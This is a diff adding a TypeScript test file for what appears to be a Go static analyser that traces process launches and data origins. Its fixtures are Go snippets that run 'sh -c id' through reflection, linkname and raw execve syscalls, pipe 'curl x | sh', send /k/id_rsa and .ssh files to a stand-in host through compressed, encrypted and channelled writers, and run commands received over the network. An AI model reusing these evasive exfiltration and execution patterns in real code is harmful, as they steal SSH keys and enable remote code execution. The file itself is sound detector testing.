@@ -1,0 +1,179 @@
+import assert from 'node:assert/strict'
+import test from 'node:test'
+import { utf8 } from '../../base/bytes.ts'
+import type { Effect } from '../facts.ts'
+import { readFacts } from '../readfacts.ts'
+import { standardCatalogue } from './cataloguestandard.ts'
+
+const catalogue = standardCatalogue()
+
+const IMPORTS: Readonly<Record<string, string>> = {
+  bytes: 'bytes',
+  cipher: 'crypto/cipher',
+  exec: 'os/exec',
+  filepath: 'path/filepath',
+  fs: 'io/fs',
+  gzip: 'compress/gzip',
+  http: 'net/http',
+  io: 'io',
+  json: 'encoding/json',
+  multipart: 'mime/multipart',
+  nats: 'github.com/nats-io/nats.go',
+  os: 'os',
+  reflect: 'reflect',
+  ssh: 'golang.org/x/crypto/ssh',
+  strings: 'strings',
+  sync: 'sync',
+  syscall: 'syscall',
+  unsafe: 'unsafe',
+  zip: 'archive/zip',
+}
+
+/** The effects of a file with these declarations; what it uses is imported. */
+function effectsOf(body: string): readonly Effect[] {
+  const used = Object.entries(IMPORTS).filter(([name]) => new RegExp(`\\b${name}\\.[A-Z]`).test(body))
+  const text = `package a\n\nimport (\n${used.map(([, path]) => `\t"${path}"\n`).join('')})\n\n${body}\n`
+  return readFacts('example.com/m', new Map([['a.go', utf8(text)]]), catalogue).effects
+}
+
+/** What started programs are known to be: `sh -c id`. */
+function commands(body: string): string[] {
+  return effectsOf(body)
+    .filter(({ kind }) => kind === 'process')
+    .map(({ arguments: args }) => args.map(({ values }) => values.map(({ text }) => text).join('|')).join(' '))
+}
+
+/** Sources of the arguments in a role, with what they tell. */
+function sources(body: string, role: string): string[] {
+  const found = effectsOf(body).flatMap(({ arguments: args }) =>
+    args.filter((one) => one.role === role).flatMap((one) => one.sources.map(({ kind, values }) => [kind, ...values])),
+  )
+  return [...new Set(found.map((one) => one.join(' ')))]
+}
+
+for (const [name, body] of [
+  [
+    'a parameter',
+    'func F() { with(exec.Command) }\nfunc with(f func(string, ...string) *exec.Cmd) { f("sh", "-c", "id") }',
+  ],
+  [
+    'a parameter that is passed on',
+    'func F() { outer(exec.Command) }\nfunc outer(f func(string, ...string) *exec.Cmd) { inner(f) }\nfunc inner(f func(string, ...string) *exec.Cmd) { f("sh", "-c", "id") }',
+  ],
+  [
+    'a map, asked with ok',
+    'var kit = map[string]func(string, ...string) *exec.Cmd{"r": exec.Command}\nfunc F() { if f, ok := kit["r"]; ok { f("sh", "-c", "id") } }',
+  ],
+  [
+    'what a function returns',
+    'func pick() func(string, ...string) *exec.Cmd { return exec.Command }\nfunc F() { pick()("sh", "-c", "id") }',
+  ],
+  [
+    'reflection',
+    'func F() { reflect.ValueOf(exec.Command).Call([]reflect.Value{reflect.ValueOf("sh"), reflect.ValueOf("-c"), reflect.ValueOf("id")}) }',
+  ],
+  [
+    'a method expression',
+    'type t struct{}\nfunc (*t) run(c string) { exec.Command("sh", "-c", c) }\nfunc F() { f := (*t).run; f(&t{}, "id") }',
+  ],
+  [
+    'a method expression in a map',
+    'type t struct{}\nfunc (t) run(c string) { exec.Command("sh", "-c", c) }\nvar m = map[string]func(t, string){"a": t.run}\nfunc F() { m["a"](t{}, "id") }',
+  ],
+] as const) {
+  test(`effects are found where a function is called through ${name}`, () =>
+    assert.deepEqual(commands(body), ['sh -c id']))
+}
+
+test('effects are none where a function of the library is only compared, or never called', () => {
+  assert.deepEqual(commands('func F(f func(string, ...string) *exec.Cmd) { G(exec.Command) }\nfunc G(any) {}'), [])
+})
+
+test('effects tell the caller apart that passes a script among hundreds that pass words', () => {
+  const dull = Array.from({ length: 300 }, (_, i) => `func F${i}() { git("w${i}") }`).join('\n')
+  const found = commands(
+    `func run(name string, args ...string) { exec.Command(name, args...) }\nfunc git(args ...string) { run("git", args...) }\n${dull}\nfunc Z() { run("sh", "-c", "curl x | sh") }`,
+  )
+  assert.deepEqual(found.slice(0, 1), ['sh -c curl x | sh'])
+  // What the others pass is told together.
+  assert.deepEqual(found.slice(1), ['git w0|w1|w2|w3|w4|w5|w6|w7'])
+})
+
+const KEY = 'd, _ := os.ReadFile("/k/id_rsa")'
+const POST = (x: string): string => `http.Post("https://a.invalid", "", ${x})`
+for (const [name, body] of [
+  [
+    'a part of a form',
+    `func F() { var b bytes.Buffer; w := multipart.NewWriter(&b); p, _ := w.CreateFormFile("k", "x"); f, _ := os.Open("/k/id_rsa"); io.Copy(p, f); ${POST('&b')} }`,
+  ],
+  [
+    'an archive in a stream that is packed',
+    `func F() { var b bytes.Buffer; z := gzip.NewWriter(&b); a := zip.NewWriter(z); w, _ := a.Create("k"); ${KEY}; w.Write(d); ${POST('&b')} }`,
+  ],
+  [
+    'an encoder on the spot',
+    `func F() { var b bytes.Buffer; ${KEY}; json.NewEncoder(gzip.NewWriter(&b)).Encode(d); ${POST('&b')} }`,
+  ],
+  [
+    'a writer in a struct',
+    `func F(s cipher.Stream) { var b bytes.Buffer; ${KEY}; w := &cipher.StreamWriter{S: s, W: &b}; w.Write(d); ${POST('&b')} }`,
+  ],
+  [
+    'a writer in a field',
+    `type t struct { b bytes.Buffer; z *gzip.Writer }\nfunc F() { x := &t{}; x.z = gzip.NewWriter(&x.b); ${KEY}; x.z.Write(d); ${POST('&x.b')} }`,
+  ],
+  ['a pipe', `func F() { r, w := io.Pipe(); go func() { ${KEY}; w.Write(d) }(); ${POST('r')} }`],
+  [
+    'a channel of the package',
+    `var q = make(chan []byte, 9)\nfunc F() { ${KEY}; q <- d }\nfunc G() { for d := range q { ${POST('bytes.NewReader(d)')} } }`,
+  ],
+  [
+    'a channel in a field',
+    `type t struct{ q chan []byte }\nfunc (x *t) F() { ${KEY}; x.q <- d }\nfunc (x *t) G() { ${POST('bytes.NewReader(<-x.q)')} }`,
+  ],
+  [
+    'a map that is ranged over with a function',
+    `func F() { var m sync.Map; ${KEY}; m.Store("a", d); m.Range(func(k, v any) bool { ${POST('bytes.NewReader(v.([]byte))')}; return true }) }`,
+  ],
+] as const) {
+  test(`origins: what is written into ${name}`, () =>
+    assert.equal(sources(body, 'data').includes('file /k/id_rsa'), true))
+}
+
+test('origins: the files below a folder that is walked, and those that a pattern names', () => {
+  const walk = `func F() { filepath.WalkDir("/k/.ssh", func(p string, d fs.DirEntry, err error) error { b, _ := os.ReadFile(p); ${POST('bytes.NewReader(b)')}; return nil }) }`
+  assert.deepEqual(sources(walk, 'data'), ['file /k/.ssh/…'])
+  const glob = `func F() { l, _ := filepath.Glob("/k/.ssh/*"); for _, p := range l { b, _ := os.ReadFile(p); ${POST('bytes.NewReader(b)')} } }`
+  assert.deepEqual(sources(glob, 'data'), ['file /k/.ssh/*'])
+})
+
+test('origins: what a function is given that the library calls is what the library has, not what a caller passes', () => {
+  const mapped = `func F() { c := bytes.Map(func(r rune) rune { return r ^ 7 }, []byte("jk")); exec.Command("sh", "-c", string(c)) }`
+  assert.deepEqual(sources(mapped, 'argument'), [])
+  const message = `func F() { c, _ := nats.Connect("nats://a.invalid"); c.Subscribe("s", func(m *nats.Msg) { exec.Command(string(m.Data)) }) }`
+  assert.deepEqual(sources(message, 'command'), ['network'])
+  const handler = `func init() { http.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) { exec.Command(r.URL.Path) }) }`
+  assert.deepEqual(sources(handler, 'command'), ['network'])
+})
+
+test('origins: a request is what somebody sent, where a handler answers it', () => {
+  const handler = `func H(w http.ResponseWriter, r *http.Request) { exec.Command("sh", r.Header.Get("X")) }`
+  assert.deepEqual(sources(handler, 'argument'), ['argument', 'network'])
+  assert.deepEqual(sources('func T(r *http.Request) { exec.Command("sh", r.Header.Get("X")) }', 'argument'), [
+    'argument',
+  ])
+})
+
+test('effects are those of the function that a name is linked to', () => {
+  const linked = `//go:linkname spawn syscall.forkExec\nfunc spawn(p string, v []string, a *syscall.ProcAttr) (int, error)\nfunc init() { spawn("/bin/sh", []string{"sh", "-c", "id"}, nil) }`
+  assert.deepEqual(commands(linked), ['/bin/sh sh -c id'])
+  assert.deepEqual(commands('func spawn(p string)\nfunc init() { spawn("/bin/sh") }'), [])
+})
+
+test('effects are those of the system call that starts a program, by its name and in assembly', () => {
+  const named = `func F() { p, _ := syscall.BytePtrFromString("/bin/sh"); c, _ := syscall.BytePtrFromString("-c"); v := []*byte{p, c, nil}; syscall.RawSyscall(syscall.SYS_EXECVE, uintptr(unsafe.Pointer(p)), uintptr(unsafe.Pointer(&v[0])), 0) }`
+  assert.deepEqual(commands(named), ['/bin/sh /bin/sh -c'])
+  const stub = `func call(n, a, b uintptr)\nfunc F() { p := [...]byte{47, 98, 105, 110, 47, 115, 104, 0}; v := [...]*byte{&p[0], nil}; call(59, uintptr(unsafe.Pointer(&p[0])), uintptr(unsafe.Pointer(&v[0]))) }`
+  assert.deepEqual(commands(stub), ['/bin/sh /bin/sh'])
+  assert.deepEqual(commands(stub.replace('59', '60')), [])
+})
